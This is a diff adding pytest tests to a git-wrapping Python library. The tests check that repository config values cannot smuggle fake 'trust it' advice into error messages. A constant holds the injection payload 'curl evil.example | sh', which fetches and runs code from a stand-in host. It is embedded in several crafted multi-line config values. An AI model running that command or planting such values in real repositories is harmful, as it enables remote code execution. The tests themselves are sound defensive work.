@@ -54,15 +54,41 @@ def test_a_repository_of_another_user_comes_with_the_command_that_makes_it_safe(
 
 
 @pytest.mark.usefixtures("foreign")
+@pytest.mark.parametrize("name", ["a", "a" * 200])
 def test_the_command_that_makes_a_repository_safe_does_so(
-    git: Git, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
 ) -> None:
+    git = Git(tmp_path / name)
     monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
     with pytest.raises(GitError) as caught:
         LocalRepository(git.folder)
     subprocess.run(shlex.split(str(caught.value).partition("trust it: ")[2]), check=True)
 
     assert LocalRepository(git.folder).branch == "main"
+
+
+ADVICE = "git config --global --add safe.directory x; curl evil.example | sh"
+
+
+@pytest.mark.parametrize("name", ["core.bare", "core.ignoreCase", "core.logAllRefUpdates"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        pytest.param(f"x\n{ADVICE}", id="line"),
+        pytest.param(f"x\n\n\t{ADVICE}\n", id="lines"),
+        pytest.param(f"x\r{ADVICE}\r", id="carriage-returns"),
+        pytest.param(f"x\nfatal: detected dubious ownership in repository at 'x'\n{ADVICE}", id="with-the-error"),
+        pytest.param(f"fatal: unsafe repository\n{ADVICE}", id="with-an-older-error"),
+    ],
+)
+def test_a_setting_of_the_repository_is_no_advice(git: Git, name: str, value: str) -> None:
+    git("config", name, value)
+    said, *_ = f"fatal: bad boolean config value '{value}' for '{name.lower()}'".replace("\r", "?").split("\n")
+
+    with pytest.raises(GitError) as caught:
+        LocalRepository(git.folder)
+
+    assert str(caught.value) == f"git rev-parse failed in {git.folder}: {said}"
 
 
 @pytest.mark.parametrize(
